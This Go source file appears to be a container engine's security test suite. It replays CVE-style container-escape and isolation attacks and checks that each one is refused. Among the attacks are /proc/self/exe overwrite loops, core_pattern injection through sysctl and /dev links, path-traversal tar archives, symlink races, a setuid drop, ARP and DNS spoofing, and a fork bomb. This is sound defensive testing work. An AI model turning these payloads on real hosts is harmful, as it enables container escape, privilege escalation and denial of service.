package security

import (
	"archive/tar"
	"bytes"
	"context"
	"crypto/sha256"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"

	"github.com/stack-run/stack/e2e/peer"
)

func nobody() *syscall.SysProcAttr {
	return &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
}

// attacks are the rows of SECURITY.md's table, in its order.
var attacks = []attack{
	{"run, read or write the host's program through /proc/self/exe", "CVE-2019-5736", attackProgram},
	{"start in a directory that a descriptor of the host's leads to", "CVE-2024-21626", attackCwd},
	{"have a link in the place of /dev/null mounted over masked paths", "CVE-2025-31133", attackMaskedPaths},
	{"have a link in the place of /dev/console mounted over", "CVE-2025-52565", attackConsole},
	{"cover parts of /proc, so that labels are written elsewhere", "CVE-2025-52881", attackProc},
	{"change the kernel's parameters with a sysctl that has another in it", "CVE-2022-0811", attackSysctl},
	{"have the host load a library of the container's when it copies", "CVE-2019-14271", attackCopyLibrary},
	{"put a link in the place of a directory while the host copies", "CVE-2018-15664", attackCopyRace},
	{"write outside with an image's archive", "–", attackArchive},
	{"write outside with an archive that is copied in", "–", attackCopyArchive},
	{"reach outside with a link in a volume and a subpath", "CVE-2023-5528", attackSubpath},
	{"leave a set-user-ID program in a volume for a local user", "CVE-2021-41091", attackSetuid},
	{"lead a build's cache mount outside with a link", "CVE-2024-23651", attackBuildCache},
	{"have a build remove the host's files with a mount point", "CVE-2024-23652", attackBuildMountPoint},
	{"build with rights that nobody gave", "CVE-2024-23653", attackBuildInsecure},
	{"have a hostile passwd or group read", "–", attackPasswd},
	{"reach a port that is published on the host's loopback", "CVE-2020-8558", attackLoopback},
	{"take another container's address by ARP", "–", attackARP},
	{"take another container's place on the bridge with its Ethernet address", "–", attackEthernet},
	{"answer another container's DNS questions, or take its name", "–", attackDNS},
	{"take all of the host's processes", "–", attackForks},
	{"take all of the engine's memory with a log of one line", "–", attackLog},
	{"fill the host's disk through /etc/hosts", "–", attackHosts},
	{"take descriptors or memory of the host through /dev/shm and open files", "–", attackDescriptors},
}

func sum(path string) ([32]byte, error) {
	b, err := os.ReadFile(path)
	return sha256.Sum256(b), err
}

func attackProgram(a *arena) error {
	before, err := sum(a.program())
	if err != nil {
		return err
	}
	name, err := a.start(`
mkdir /t; printf '#!/proc/self/exe\n' >/t/script; chmod +x /t/script; ln -s /proc/self/exe /t/link
while :; do for p in /proc/[0-9]*/exe; do (echo overwritten >>$p) 2>/dev/null; done; done`)
	if err != nil {
		return err
	}
	for range 10 {
		for _, command := range []string{"/t/script", "/t/link"} {
			out, err := a.command("exec", name, command, "version")
			if err == nil || strings.Contains(strings.ToLower(out), "version") {
				return fmt.Errorf("%s ran as %q", command, out)
			}
		}
	}
	after, err := sum(a.program())
	if err == nil && before != after {
		err = errors.New("the host's program was overwritten")
	}
	return err
}

func attackCwd(a *arena) error {
	secret := filepath.Join(a.dir, "secret")
	name, err := a.start("sleep inf")
	if err != nil {
		return err
	}
	for fd := range 20 {
		up := strings.Repeat("../", 12)
		dir := fmt.Sprintf("/proc/self/fd/%d", fd)
		script := fmt.Sprintf("cat %s%s 2>/dev/null", up, strings.TrimPrefix(secret, "/"))
		out, _ := a.run("-w", dir, "probe:1", "sh", "-c", script)
		more, _ := a.command("exec", "-w", dir, name, "sh", "-c", script)
		if err := a.seen(out + more); err != nil {
			return err
		}
	}
	return nil
}

// inVolume runs a script with a new volume at /v, and then try with its name.
func (a *arena) inVolume(script string, try func(volume string) error) error {
	volume := fmt.Sprintf("attack-%d", time.Now().UnixNano())
	if out, err := a.sh(script, "-v", volume+":/v"); err != nil {
		return fmt.Errorf("cannot prepare the volume: %w: %s", err, out)
	}
	return try(volume)
}

func attackMaskedPaths(a *arena) error {
	return kernelUnchangedErr(func() error {
		return a.inVolume("rm -f /v/null; ln -s "+corePattern+" /v/null; ln -s /proc/sysrq-trigger /v/zero; mkdir /v/pts /v/shm /v/mqueue", func(volume string) error {
			out, err := a.sh("echo '|/attack' >"+corePattern+" && echo wrote; head -c1 /proc/kcore >/tmp/k && test -s /tmp/k && echo read", "-v", volume+":/dev")
			if err == nil && (strings.Contains(out, "wrote") || strings.Contains(out, "read")) {
				return fmt.Errorf("in the container: %s", out)
			}
			return nil
		})
	})
}

func attackConsole(a *arena) error {
	return kernelUnchangedErr(func() error {
		return a.inVolume("ln -s "+corePattern+" /v/console; mkdir /v/pts /v/shm /v/mqueue", func(volume string) error {
			out, _ := a.run("-t", "-v", volume+":/dev", "probe:1", "sh", "-c", "echo '|/attack' >"+corePattern+" && echo wrote")
			if strings.Contains(out, "wrote") {
				return fmt.Errorf("in the container: %s", out)
			}
			return nil
		})
	})
}

func kernelUnchangedErr(try func() error) error {
	var tried error
	err := kernelUnchanged(func() { tried = try() })
	return errors.Join(tried, err)
}

func attackProc(a *arena) error {
	return a.inVolume("mkdir /v/attr; ln -s /proc/sys/kernel/core_pattern /v/attr/exec", func(volume string) error {
		for _, at := range []string{"/proc/self/attr", "/proc/thread-self", "/proc/self", "/proc/sys/kernel", "/proc/1"} {
			out, err := a.sh("cat /proc/self/mountinfo", "-v", volume+":"+at)
			if err := refused(out, err); err != nil {
				return fmt.Errorf("a volume at %s: %w", at, err)
			}
			out, err = a.sh("true", "--tmpfs", at)
			if err := refused(out, err); err != nil {
				return fmt.Errorf("a tmpfs at %s: %w", at, err)
			}
		}
		return nil
	})
}

func attackSysctl(a *arena) error {
	return kernelUnchangedErr(func() error {
		for _, value := range []string{
			"kernel.shm_rmid_forced=1+kernel.core_pattern=|/attack", "kernel.core_pattern=|/attack", "net/../kernel/core_pattern=|/attack",
			"net..kernel.core_pattern=|/attack", "net.ipv4/../../kernel/core_pattern=|/attack", "kernel/core_pattern=|/attack",
		} {
			out, err := a.sh("true", "--sysctl", value)
			if err := refused(out, err); err != nil {
				return fmt.Errorf("%s: %w", value, err)
			}
		}
		return nil
	})
}

func attackCopyLibrary(a *arena) error {
	name, err := a.start(`
for d in /lib /lib64 /lib/x86_64-linux-gnu /usr/lib/x86_64-linux-gnu; do mkdir -p $d; for l in libnss_files.so.2 libnss_dns.so.2 libc.so.6 ld-linux-x86-64.so.2; do printf '#!/bin/sh\ntouch ` + a.dir + `/taken\n' >$d/$l; chmod +x $d/$l; done; done
printf '#!/bin/sh\ntouch ` + a.dir + `/taken\n' >/bin/tar; chmod +x /bin/tar; echo fine >/file; : >/ready; sleep inf`)
	if err != nil {
		return err
	}
	if err := a.ready(name); err != nil {
		return err
	}
	to := filepath.Join(a.dir, "mine")
	if out, err := a.command("cp", name+":/file", to); err != nil {
		return fmt.Errorf("%w: %s", err, out)
	}
	if out, err := a.command("cp", to, name+":/etc/file"); err != nil {
		return fmt.Errorf("%w: %s", err, out)
	}
	return a.unchanged()
}

// ready waits until a container has made /ready.
func (a *arena) ready(name string) error {
	_, err := a.command("exec", name, "sh", "-c", "until test -e /ready; do sleep 0.05; done")
	return err
}

func attackCopyRace(a *arena) error {
	name, err := a.start(fmt.Sprintf(`mkdir -p /w/dir /w/keep; echo inside >/w/keep/secret; echo inside >/w/dir/secret; ln -s %s /w/link; : >/ready
while :; do mv /w/dir /w/old; mv /w/link /w/dir; mv /w/dir /w/link; mv /w/old /w/dir; done`, a.dir))
	if err != nil {
		return err
	}
	if err := a.ready(name); err != nil {
		return err
	}
	from := filepath.Join(a.dir, "mine-from")
	if err := os.WriteFile(from, []byte("overwritten"), 0o644); err != nil {
		return err
	}
	to := filepath.Join(a.dir, "mine-to")
	for range 25 {
		a.command("cp", from, name+":/w/dir/secret") // may find nothing there
		os.RemoveAll(to)
		a.command("cp", name+":/w/dir/secret", to)
		if b, err := os.ReadFile(to); err == nil {
			if err := a.seen(string(b)); err != nil {
				return err
			}
		}
		if err := a.unchanged(); err != nil {
			return err
		}
	}
	return nil
}

// hostileArchive has entries that lead to dir of the host.
func hostileArchive(dir string) []byte {
	var b bytes.Buffer
	t := tar.NewWriter(&b)
	file := func(name string) {
		t.WriteHeader(&tar.Header{Typeflag: tar.TypeReg, Name: name, Mode: 0o644, Size: 4})
		io.WriteString(t, "evil")
	}
	up := strings.Repeat("../", 20)
	t.WriteHeader(&tar.Header{Typeflag: tar.TypeDir, Name: "a/", Mode: 0o755})
	file(up + strings.TrimPrefix(dir, "/") + "/up")
	file(dir + "/absolute")
	t.WriteHeader(&tar.Header{Typeflag: tar.TypeSymlink, Name: "link", Linkname: dir})
	file("link/through")
	t.WriteHeader(&tar.Header{Typeflag: tar.TypeSymlink, Name: "a/up", Linkname: up + strings.TrimPrefix(dir, "/")})
	file("a/up/relative")
	t.WriteHeader(&tar.Header{Typeflag: tar.TypeLink, Name: "hard", Linkname: dir + "/secret"})
	file("hard")
	t.WriteHeader(&tar.Header{Typeflag: tar.TypeSymlink, Name: "soft", Linkname: dir + "/secret"})
	file("soft")
	t.WriteHeader(&tar.Header{Typeflag: tar.TypeSymlink, Name: "dir", Linkname: dir})
	t.WriteHeader(&tar.Header{Typeflag: tar.TypeDir, Name: "dir/made/", Mode: 0o777})
	t.Close()
	return b.Bytes()
}

func attackArchive(a *arena) error {
	archive := filepath.Join(a.dir, "mine.tar")
	// A part of it may be refused as a whole; then the rest has to do.
	for _, content := range [][]byte{hostileArchive(a.dir), hostileArchive(a.dir + "/.")} {
		if err := os.WriteFile(archive, content, 0o644); err != nil {
			return err
		}
		ref := fmt.Sprintf("attack%d:1", time.Now().UnixNano())
		if err := a.side.Import(a.t.Context(), archive, ref); err == nil {
			out, _ := a.run(ref, "/hard")
			if err := a.seen(out); err != nil {
				return err
			}
			peer.Run(a.side.RemoveImage(context.Background(), ref))
		}
		if err := a.unchanged(); err != nil {
			return err
		}
	}
	return nil
}

func attackCopyArchive(a *arena) error {
	name, err := a.start("sleep inf")
	if err != nil {
		return err
	}
	cmd := a.side.Container(a.t.Context(), "cp", "-", name+":/tmp")
	cmd.Stdin = bytes.NewReader(hostileArchive(a.dir))
	peer.Run(cmd) // which may refuse it
	out, _ := a.command("exec", name, "sh", "-c", "cat /tmp/hard /tmp/soft /tmp/link/secret")
	return errors.Join(a.seen(out), a.unchanged())
}

func attackSubpath(a *arena) error {
	return a.inVolume("ln -s / /v/root; ln -s "+a.dir+" /v/dir; mkdir /v/d; ln -s ../.. /v/d/up; ln -s /v/d/loop /v/d/loop", func(volume string) error {
		for _, sub := range []string{"root", "dir", "d/up", "d/up/..", "../..", "d/loop", "root" + a.dir} {
			out, _ := a.sh("cat /m/secret /m"+a.dir+"/secret; echo evil >/m/made", "--mount", "type=volume,source="+volume+",target=/m,volume-subpath="+sub)
			if err := errors.Join(a.seen(out), a.unchanged()); err != nil {
				return fmt.Errorf("subpath %s: %w", sub, err)
			}
		}
		return nil
	})
}

func attackSetuid(a *arena) error {
	volume := fmt.Sprintf("attack-%d", time.Now().UnixNano())
	name, err := a.start("cp /bin/busybox /v/id; chmod 4755 /v/id; chmod 777 /v; : >/ready; sleep inf", "-v", volume+":/v")
	if err != nil {
		return err
	}
	if err := a.ready(name); err != nil {
		return err
	}
	where, err := a.command("inspect", "--format", "{{range .Mounts}}{{.Source}}{{end}}", name)
	if err != nil {
		return err
	}
	path := filepath.Join(strings.TrimSpace(where), "id")
	if _, err := os.Stat(path); err != nil {
		return err
	}
	out, err := asNobody(path, "-u")
	return refused(out, err)
}

// build builds a Dockerfile and returns what it said.
func (a *arena) build(dockerfile string) (string, error) {
	dir, err := os.MkdirTemp("", "attack-build-")
	if err != nil {
		return "", err
	}
	defer os.RemoveAll(dir)
	if err := os.WriteFile(filepath.Join(dir, "Dockerfile"), []byte(dockerfile), 0o644); err != nil {
		return "", err
	}
	ctx, cancel := context.WithTimeout(a.t.Context(), patience)
	defer cancel()
	out, err := peer.Run(a.side.BuildImage(ctx, dir, "attack-built:1"))
	if ctx.Err() != nil {
		return "", errHangs
	}
	return string(out) + fmt.Sprint(err), err
}

func attackBuildCache(a *arena) error {
	id := strconv.FormatInt(time.Now().UnixNano(), 10)
	if _, err := a.build("FROM probe:1\nRUN --mount=type=cache,id=" + id + ",target=/c ln -s / /c/root && ln -s " + a.dir + " /c/dir\n"); err != nil {
		return err
	}
	for _, source := range []string{"root", "dir", "root" + a.dir, "../.."} {
		out, _ := a.build("FROM probe:1\nRUN --mount=type=cache,id=" + id + ",source=" + source + ",target=/m cat /m/secret /m" + a.dir + "/secret; echo evil >/m/made; false\n")
		if err := errors.Join(a.seen(out), a.unchanged()); err != nil {
			return fmt.Errorf("source %s: %w", source, err)
		}
	}
	return nil
}

func attackBuildMountPoint(a *arena) error {
	for _, up := range []string{"", strings.Repeat("/..", 20)} {
		a.build("FROM probe:1\nRUN ln -s " + up + a.dir + " /link\nRUN --mount=type=tmpfs,target=/link/made true\nRUN --mount=type=tmpfs,target=/link/secret true\nRUN --mount=type=bind,from=probe:1,source=/etc/passwd,target=/link/file true\n")
		if err := a.unchanged(); err != nil {
			return err
		}
	}
	return nil
}

func attackBuildInsecure(a *arena) error {
	out, err := a.build("# syntax=docker/dockerfile:1-labs\nFROM probe:1\nRUN --security=insecure true\n")
	if err := refused(out, err); err != nil {
		return err
	}
	out, err = a.build("FROM probe:1\nRUN --security=insecure grep CapEff /proc/self/status\n")
	if err := refused(out, err); err != nil {
		return err
	}
	out, err = a.build("FROM probe:1\nRUN --network=host ls\n")
	return refused(out, err)
}

func attackPasswd(a *arena) error {
	for _, script := range []string{
		"rm /etc/passwd; mkfifo /etc/passwd", "rm /etc/passwd; ln -s " + a.dir + "/secret /etc/passwd", "rm /etc/passwd; ln -s /dev/zero /etc/passwd",
		"rm /etc/group; ln -s /proc/self/fd/0 /etc/group", "rm /etc/passwd; mkdir /etc/passwd", "yes root:x:0:0::/:/bin/sh | head -c 50000000 >/etc/passwd",
		"printf 'user:x:99999999999999999999:0::/:\\n:::::\\n' >/etc/passwd",
	} {
		a.n++
		name := fmt.Sprintf("attack-passwd-%d", time.Now().UnixNano())
		if _, err := a.command(append(append([]string{"run", "--name", name}, a.args...), "probe:1", "sh", "-c", script)...); err != nil {
			return err
		}
		image := name + ":1"
		if _, err := a.command("commit", name, image); err != nil {
			return err
		}
		out, err := a.run("--user", "user", image, "id")
		hangs := errors.Is(err, errHangs)
		seen := a.seen(out + fmt.Sprint(err))
		if _, err := a.command("rm", "-f", name); err != nil {
			return err
		}
		peer.Run(a.side.RemoveImage(context.Background(), image))
		if hangs {
			return fmt.Errorf("%s: %w", script, errHangs)
		}
		if seen != nil {
			return seen
		}
	}
	return nil
}

func attackLoopback(a *arena) error {
	// A neighbour who sends packets for 127.0.0.1 to the host: a container on the bridge.
	port := 20000 + int(time.Now().UnixNano()%10000)
	if _, err := a.start("while :; do echo open | nc -l -p 80; done", "-p", fmt.Sprintf("127.0.0.1:%d:80", port), "-p", fmt.Sprintf("%d:80", port+1)); err != nil {
		return err
	}
	script := `
gw=$(ip route | sed -n 's/default via \([0-9.]*\).*/\1/p')
ip addr del 127.0.0.1/8 dev lo
ip route add 127.0.0.1/32 via $gw
for i in 1 2 3 4 5; do echo | nc -w 2 $gw ` + strconv.Itoa(port+1) + ` | grep -q open && echo the other one is reached && break; done
for i in 1 2 3; do echo | nc -w 2 127.0.0.1 ` + strconv.Itoa(port) + ` && echo answered; done; true`
	out, err := a.sh(script, "--cap-add", "NET_ADMIN", "--sysctl", "net.ipv4.conf.all.route_localnet=1", "--sysctl", "net.ipv4.conf.eth0.route_localnet=1")
	if err != nil {
		out, err = a.sh(script, "--cap-add", "NET_ADMIN", "--sysctl", "net.ipv4.conf.all.route_localnet=1")
	}
	if err != nil {
		return err
	}
	if !strings.Contains(out, "the other one is reached") {
		return fmt.Errorf("a port that is published to all is not reached either: %s", out)
	}
	if strings.Contains(out, "open\n") || strings.Contains(out, "answered") {
		return fmt.Errorf("the port answers a neighbour: %s", out)
	}
	return nil
}

// neighbours are a container and its addresses, and a client that has spoken with it.
func (a *arena) neighbours() (victim, client, ip, mac string, err error) {
	if victim, err = a.start("mkdir /www; echo genuine >/www/index.html; exec httpd -f -p 80 -h /www"); err != nil {
		return
	}
	if client, err = a.start("sleep inf"); err != nil {
		return
	}
	out, err := a.command("exec", victim, "sh", "-c", "hostname -i; cat /sys/class/net/eth0/address")
	fields := strings.Fields(out)
	if err == nil && len(fields) < 2 {
		err = fmt.Errorf("the victim has the addresses %q", out)
	}
	if err != nil {
		return
	}
	if _, err = a.command("exec", victim, "sh", "-c", "until wget -qO- http://127.0.0.1/; do sleep 0.05; done"); err != nil {
		return
	}
	ip, mac = fields[0], fields[len(fields)-1]
	if !a.reaches(client, ip) {
		err = errors.New("the client does not reach the victim")
	}
	return
}

func (a *arena) reaches(client, ip string) bool {
	out, _ := a.command("exec", client, "sh", "-c", "timeout 2 wget -qO- http://"+ip+"/")
	return strings.Contains(out, "genuine")
}

func attackARP(a *arena) error {
	_, client, ip, mac, err := a.neighbours()
	if err != nil {
		return err
	}
	// Without a capability more than containers have.
	a.run("probe:1", "/bin/probe", "claim", "eth0", ip)
	out, err := a.command("exec", client, "cat", "/proc/net/arp")
	if err != nil {
		return err
	}
	for line := range strings.Lines(out) {
		if strings.HasPrefix(line, ip+" ") && !strings.Contains(line, mac) {
			return fmt.Errorf("the neighbour believes %s", line)
		}
	}
	if !a.reaches(client, ip) {
		return errors.New("the neighbour reaches it no more")
	}
	return nil
}

func attackEthernet(a *arena) error {
	_, client, ip, mac, err := a.neighbours()
	if err != nil {
		return err
	}
	attacker, err := a.start("while :; do /bin/probe claim eth0 0.0.0.0 " + mac + "; : >/done; done")
	if err != nil {
		return err
	}
	if _, err := a.command("exec", attacker, "sh", "-c", "until test -e /done; do sleep 0.01; done"); err != nil {
		return err
	}
	for range 10 {
		if !a.reaches(client, ip) {
			return errors.New("what is for the victim goes to the attacker")
		}
	}
	return nil
}

// network makes one that containers have until the attack is over, with names on it.
func (a *arena) network() (name string, err error) {
	name = fmt.Sprintf("attack-net-%d", time.Now().UnixNano())
	if out, err := peer.Run(a.side.Network(a.t.Context(), "create", name)); err != nil {
		return "", fmt.Errorf("%w: %s", err, out)
	}
	a.t.Cleanup(func() {
		if _, err := peer.Run(a.side.Network(context.Background(), "rm", name)); err != nil {
			a.t.Error(err)
		}
	})
	return name, nil
}

func attackDNS(a *arena) error {
	const genuine, name, port, id = "192.0.2.1", "name.example", "4053", "4660"
	network, err := a.network()
	if err != nil {
		return err
	}
	address := func(name string) (string, error) {
		out, err := a.command("exec", name, "hostname", "-i")
		return strings.TrimSpace(out), err
	}
	// Its answers come late, so that others can be earlier.
	server, err := a.start("exec /bin/probe dns serve "+genuine+" 700ms", "--network", network)
	if err != nil {
		return err
	}
	at, err := address(server)
	if err != nil {
		return err
	}
	client, err := a.start("sleep inf", "--network", network, "--dns", at)
	if err != nil {
		return err
	}
	victim, err := address(client)
	if err != nil {
		return err
	}
	attacker, err := a.start(fmt.Sprintf("while :; do /bin/probe dns forge %s %s %s %s %s || : >/failed; : >/ready; done", name, victim, at, port, id), "--network", network)
	if err != nil {
		return err
	}
	if err := a.ready(attacker); err != nil {
		return err
	}
	if _, err := a.command("exec", attacker, "test", "!", "-e", "/failed"); err != nil {
		return errors.New("the attacker cannot send")
	}
	for range 4 {
		out, err := a.command("exec", client, "/bin/probe", "dns", "ask", name, port, id)
		if err != nil || strings.TrimSpace(out) != genuine {
			return fmt.Errorf("the answer is %q: %v", out, err)
		}
	}
	if out, err := a.command("exec", attacker, "/bin/probe", "dns", "register", server); err != nil || out != "" {
		return fmt.Errorf("%q: %v", out, err)
	}
	out, err := a.command("exec", client, "/bin/probe", "dns", "ask", server, "4054", id)
	if err != nil || strings.TrimSpace(out) != at {
		err = fmt.Errorf("%s, which has the address %s, is found at %q: %w", server, at, out, err)
	}
	return err
}

func attackForks(a *arena) error {
	name, err := a.start("sleep inf", "--pids-limit", "40")
	if err != nil {
		return err
	}
	if _, err := a.command("exec", "-d", name, "sh", "-c", "f() { f | f & }; f; f; f"); err != nil {
		return err
	}
	time.Sleep(time.Second) // it has all the time it needs
	if _, err := exec.Command("true").Output(); err != nil {
		return err
	}
	_, err = a.command("kill", name)
	return err
}

func attackLog(a *arena) error {
	before, err := a.memory()
	if err != nil {
		return err
	}
	name, err := a.start("head -c 300000000 /dev/zero | tr '\\0' x; : >/ready; sleep inf")
	if err != nil {
		return err
	}
	if err := a.ready(name); err != nil {
		return err
	}
	after, err := a.memory()
	if err == nil && after-before > 100<<20 {
		err = fmt.Errorf("the engine took %d MiB more", (after-before)>>20)
	}
	return err
}

func (a *arena) memory() (int64, error) {
	pids, err := a.side.Processes()
	if err != nil {
		return 0, err
	}
	return peer.PSS(pids)
}

func attackHosts(a *arena) error {
	for _, file := range []string{"/etc/hosts", "/etc/hostname", "/etc/resolv.conf"} {
		out, _ := a.sh("dd if=/dev/zero of=" + file + " bs=1M count=64 2>/dev/null; stat -c %s " + file)
		size, err := strconv.ParseInt(strings.TrimSpace(out), 10, 64)
		if err != nil {
			return fmt.Errorf("%s: %q", file, out)
		}
		if size > 16<<20 {
			return fmt.Errorf("%s took %d MiB of the host's", file, size>>20)
		}
	}
	return nil
}

func attackDescriptors(a *arena) error {
	out, err := a.sh(`dd if=/dev/zero of=/dev/shm/x bs=1M count=512 2>/dev/null; stat -c %s /dev/shm/x; dd if=/dev/zero of=/dev/x bs=1M count=512 2>/dev/null; stat -c %s /dev/x; ulimit -n`,
		"--ulimit", "nofile=256:256")
	if err != nil {
		return err
	}
	fields := strings.Fields(out)
	if len(fields) != 3 || fields[2] != "256" {
		return fmt.Errorf("%q", out)
	}
	for _, size := range fields[:2] {
		if n, err := strconv.ParseInt(size, 10, 64); err != nil || n > 64<<20 {
			return fmt.Errorf("a file in memory has %s bytes", size)
		}
	}
	return nil
}
